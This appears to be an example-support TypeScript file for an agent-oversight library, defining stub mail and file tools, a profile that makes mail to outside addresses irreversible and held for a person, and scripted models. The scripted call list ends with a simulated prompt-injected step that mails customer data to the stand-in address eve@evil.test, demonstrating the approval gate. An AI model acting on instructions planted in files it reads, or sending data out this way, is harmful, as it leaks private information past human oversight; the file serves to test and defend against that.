// "Your agent": tools and a model for each framework, unchanged but for what each tool says that it can do. The
// models are scripted, so that every example runs offline; put a real one in their place and nothing else changes.
import { execFileSync } from "node:child_process";
import { tool as aiTool } from "ai";
import { MockLanguageModelV4 } from "ai/test";
import { AIMessage, fakeModel, tool } from "langchain";
import { z } from "zod";
import { type Profile, withProfile } from "@behest/core";

const mail = z.object({ to: z.string(), subject: z.string(), body: z.string() });
const file = z.object({ path: z.string() });

const reading = { effect: "read", boundary: "inside" } as const;

/** Inside the company a mail can be recalled. What leaves it cannot be undone, and waits for a person. */
export const mailing: Profile<z.infer<typeof mail>> = {
  effect: ({ to }) => (isColleague(to) ? "reversible" : "irreversible"),
  boundary: ({ to }) => (isColleague(to) ? "inside" : "outside"),
  control: ["to"],
  undo: "recall it",
};
const isColleague = (to: string): boolean => to.endsWith("@example.com");

const readFile = tool(async ({ path }) => `contents of ${path}`, {
  name: "read_file",
  description: "Reads a file",
  schema: file,
});
const sendMail = tool(async ({ to }) => `sent to ${to}`, {
  name: "send_mail",
  description: "Sends a mail",
  schema: mail,
});
export const tools = [withProfile(readFile, reading), withProfile(sendMail, mailing)];

export const aiTools = {
  read_file: withProfile(
    aiTool({
      description: "Reads a file",
      inputSchema: file,
      execute: async ({ path }) => `contents of ${path}`,
    }),
    reading,
  ),
  send_mail: withProfile(
    aiTool({ description: "Sends a mail", inputSchema: mail, execute: async ({ to }) => `sent to ${to}` }),
    mailing,
  ),
};

/** What the scripted models do, one call at a time: the last was put into their heads by a file they read. */
const CALLS = [
  { name: "read_file", args: { path: "/notes/friday.md" } },
  { name: "read_file", args: { path: "/notes/customers.md" } },
  { name: "send_mail", args: { to: "bob@example.com", subject: "Friday", body: "It will be there." } },
  { name: "send_mail", args: { to: "eve@evil.test", subject: "customers", body: "all of them" } },
];

type Call = (typeof CALLS)[number];

/** A LangChain model that makes `calls` and ends. The step is read off the conversation. */
export function scripted(calls: readonly Call[] = CALLS): ReturnType<typeof fakeModel> {
  const model = fakeModel();
  for (let i = 0; i < 100; i++)
    model.respond((messages) => {
      const step = messages.filter((message) => AIMessage.isInstance(message)).length;
      const call = calls[step];
      if (!call) return new AIMessage("Done.");
      return new AIMessage({ content: "", tool_calls: [{ ...call, id: `call-${step}`, type: "tool_call" }] });
    });
  return model;
}

/** The same for the AI SDK. */
export function aiScripted(calls: readonly Call[] = CALLS): MockLanguageModelV4 {
  return new MockLanguageModelV4({
    doGenerate: async ({ prompt }) => {
      const step = prompt.filter(({ role }) => role === "assistant").length;
      const call = calls[step];
      return {
        content: call
          ? [
              {
                type: "tool-call",
                toolCallId: `call-${step}`,
                toolName: call.name,
                input: JSON.stringify(call.args),
              },
            ]
          : [{ type: "text", text: "Done." }],
        finishReason: { unified: call ? "tool-calls" : "stop", raw: undefined },
        usage: {
          inputTokens: { total: 1, noCache: 1, cacheRead: 0, cacheWrite: 0 },
          outputTokens: { total: 1, text: 1, reasoning: 0 },
        },
        warnings: [],
      };
    },
  });
}

export const model = scripted();
export const aiModel = aiScripted();
export const messages = [{ role: "user" as const, content: "Read my notes for Friday and tell Bob." }];

/** Stands for a person who types `behest …` where the approver's key is. */
export function inAnotherTerminal(...args: string[]): void {
  const command = new URL("../packages/behest/src/main.ts", import.meta.url).pathname;
  execFileSync(process.execPath, ["--conditions=@behest/source", command, ...args]);
}
